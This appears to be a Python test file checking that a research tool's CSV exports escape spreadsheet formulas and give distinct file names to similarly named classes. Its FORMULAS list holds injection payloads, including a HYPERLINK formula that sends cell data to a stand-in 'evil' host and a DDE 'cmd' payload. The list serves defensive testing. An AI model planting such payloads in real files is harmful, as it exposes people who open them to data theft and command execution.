"""Files for other programs: cells that spreadsheets would run, and names that would share one file."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.csv
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from tests.helpers.examples import examples
from vtcav_ray import tables
from vtcav_ray.cli.tables import print_table
from vtcav_ray.clips.decisions import Decision, Decisions, Subject, format_decisions, parse_decisions
from vtcav_ray.errors import ConfigError
from vtcav_ray.text.csv_text import as_text, from_text
from vtcav_ray.text.file_names import distinct_names

FORMULAS = ["=1+2", '=HYPERLINK("http://evil/?x="&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
            "\n=1", "\uff1d1", "'=1", "''-x", "-", "+1 2", "=5"]  # fmt: skip
PLAIN = ["cup/spatial", "a=b", "-5", "+3.5e-7", "-.5", "1", "", "'quoted'", "it's", "-inf"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_text_and_comes_back(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"
    assert from_text(as_text(cell)) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert as_text(cell) == cell
    assert from_text(cell) == cell


def test_a_table_as_csv_has_no_formula_and_its_numbers() -> None:
    rows = pa.table(
        {
            "concept": pa.array([*FORMULAS, None]),
            "=head": pa.array(["a"] * (len(FORMULAS) + 1)).dictionary_encode(),
            "effect": pa.array([-0.5] * (len(FORMULAS) + 1)),
            "n": pa.array([-3] * (len(FORMULAS) + 1)),
            "frames": pa.array([[-1, 2]] * (len(FORMULAS) + 1)),
        }
    )
    stream = io.BytesIO()
    print_table(rows, "csv", Console(), stream)
    lines = list(csv.reader(io.StringIO(stream.getvalue().decode(), newline="")))
    assert lines[0] == ["concept", "'=head", "effect", "n", "frames"]
    assert [line[0] for line in lines[1:]] == [f"'{cell}" for cell in FORMULAS] + [""]
    assert {tuple(line[2:]) for line in lines[1:]} == {("-0.5", "-3", "[-1, 2]")}
    back = pyarrow.csv.read_csv(
        io.BytesIO(stream.getvalue()), parse_options=pyarrow.csv.ParseOptions(newlines_in_values=True)
    )
    assert (back["effect"].to_pylist(), back["n"].to_pylist()) == (rows["effect"].to_pylist(), rows["n"].to_pylist())


def test_the_paper_exports_no_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from vtcav_ray.exports import latex, paper

    monkeypatch.setattr(latex, "significant_cells", lambda cells: "")
    monkeypatch.setattr(latex, "summary", lambda cells: "")
    scores = pa.table({"concept": ["=1+1"], "effect": [-1.5]})
    paper._tables(tables.VERDICTS.empty_table(), scores, None, tmp_path)  # type: ignore[arg-type]
    assert (tmp_path / "scores.csv").read_text().splitlines()[1] == '"\'=1+1",-1.5'


TEXTS = (st.text(max_size=12) | st.sampled_from(FORMULAS + PLAIN)).map(str.strip)


@pytest.mark.slow
@examples(300)
@given(
    st.lists(st.tuples(st.sampled_from(["concept", "class", "random"]), TEXTS.filter(bool), TEXTS, TEXTS), max_size=6)
)
def test_fuzz_decisions_come_back(rows: list[tuple[str, str, str, str]]) -> None:
    decisions = [Decision(Subject(set_, name, clip), "reject", note) for set_, name, clip, note in rows]
    by_key = Decisions({d.subject.key: d for d in decisions})
    text = format_decisions(by_key)
    assert parse_decisions(text) == by_key
    assert format_decisions(parse_decisions(text)) == text
    for line in csv.reader(io.StringIO(text, newline="")):
        assert all(as_text(from_text(cell)) == cell for cell in line)


@pytest.mark.slow
@examples(300)
@given(st.text(max_size=120) | st.text("set,name,clip_id,decision,note\n\"='@accept reject\r\0", max_size=160))
def test_fuzz_any_review_file_is_read_or_refused(text: str) -> None:
    for case in (text, f"set,name,clip_id,decision,note\n{text}"):
        try:
            decisions, why = parse_decisions(case), "review.csv"
        except ConfigError as error:
            decisions, why = Decisions(), str(error)
        assert "review.csv" in why
        assert parse_decisions(format_decisions(decisions)) == decisions


def test_names_that_would_meet_in_one_file_are_kept_apart() -> None:
    names = ["a/b", "a b", "a_b", "A_B", "\u00e9", "e\u0301", "..", "/", "", "x" * 300, "x" * 301, "plain"]
    files = distinct_names(names)
    assert list(files) == names
    assert len({name.casefold() for name in files.values()}) == len(names)
    assert files["plain"] == "plain"
    assert all(re.fullmatch(r"[\w.-]{1,149}", name) for name in files.values())
    assert distinct_names(reversed(names)) == files
    taken = {**distinct_names(["a/b", "a b"])}
    again = distinct_names(["a/b", "a b", *taken.values()])  # a class named like another's file
    assert len(set(again.values())) == 4


@pytest.mark.slow
@examples(200)
@given(st.lists(st.text(max_size=100), unique=True, max_size=12))
def test_fuzz_file_names(names: list[str]) -> None:
    files = distinct_names(names)
    assert len({name.casefold() for name in files.values()}) == len(names)
    for name in files.values():
        assert name not in ("", ".", "..")
        assert not set(name) & set('/\\\0\n:*?"<>|')


def test_figures_of_classes_with_like_names_are_all_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from vtcav_ray.exports import figures, paper

    monkeypatch.setattr(figures, "effects", lambda cells, name: name)
    monkeypatch.setattr(figures, "matrix", lambda cells, layer: layer)
    monkeypatch.setattr(figures, "save", lambda figure, path: path.write_text(figure))

    class Cells:
        classes = ("a/b", "a b", "a_b")
        layers = ("early@grid:2", "early@grid_2")
        columns = ()  # of comparisons with motion controls: none

    written = paper._figures(Cells(), tmp_path, ["svg"], Cells.classes)  # type: ignore[arg-type]
    assert len(set(written)) == 5
    assert sorted(path.read_text() for path in tmp_path.iterdir()) == sorted([*Cells.classes, *Cells.layers])
    # A class exported alone goes into the same file as among all classes.
    (one,) = (p for p in paper._figures(Cells(), tmp_path, ["svg"], ("a b",)) if "effects" in p.name)  # type: ignore[arg-type]
    assert one in written
